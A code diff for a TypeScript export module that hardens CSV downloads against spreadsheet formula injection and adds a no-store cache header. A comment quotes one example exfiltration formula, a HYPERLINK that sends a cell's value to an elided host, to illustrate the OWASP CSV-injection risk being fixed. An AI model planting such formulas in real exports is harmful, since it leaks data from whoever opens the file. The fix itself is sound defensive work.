@@ -5,9 +5,14 @@ import type { AppEnv } from '../context.ts';
 /** Tables as files (products and recipes, docs/decisions/0023-costs-import-export.md). */
 export const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
 
-/** CSV with « ; » (what a French Excel opens in columns) and a BOM (so it reads UTF-8). */
+/**
+ * CSV with « ; » (what a French Excel opens in columns) and a BOM (so it reads UTF-8). A cell
+ * that a spreadsheet would run as a formula (starting with = + - @, a tab or a carriage return:
+ * `=HYPERLINK("http://…?x="&A1,"clic")` in a product's name) is written with a leading `'`
+ * (papaparse's escapeFormulae, OWASP « CSV Injection »).
+ */
 export const toCsv = (rows: readonly (readonly string[])[], headers: readonly string[]): string =>
-  `\uFEFF${Papa.unparse({ fields: [...headers], data: rows.map((r) => [...r]) }, { delimiter: ';' })}\r\n`;
+  `\uFEFF${Papa.unparse({ fields: [...headers], data: rows.map((r) => [...r]) }, { delimiter: ';', escapeFormulae: true })}\r\n`;
 
 /**
  * ExcelJS, loaded on the first XLSX file rather than at start: about 0.3 s of the server's
@@ -25,6 +30,7 @@ export async function toXlsx(
   const book = new ExcelJS.Workbook();
   const sheet = book.addWorksheet(sheetName);
   sheet.addRow([...headers]).font = { bold: true };
+  // Strings stay text cells: ExcelJS writes a formula only from a `{ formula }` value.
   for (const row of rows) sheet.addRow([...row]);
   sheet.columns.forEach((column) => (column.width = 18));
   return new Uint8Array(await book.xlsx.writeBuffer());
@@ -39,6 +45,8 @@ export async function sendTable(
   headers: readonly string[],
 ) {
   c.header('Content-Disposition', `attachment; filename="${name}.${format}"`);
+  // An organisation's data: never kept by a shared cache or the browser's disk cache.
+  c.header('Cache-Control', 'private, no-store');
   if (format === 'csv') {
     c.header('Content-Type', 'text/csv; charset=utf-8');
     return c.body(toCsv(rows, headers));
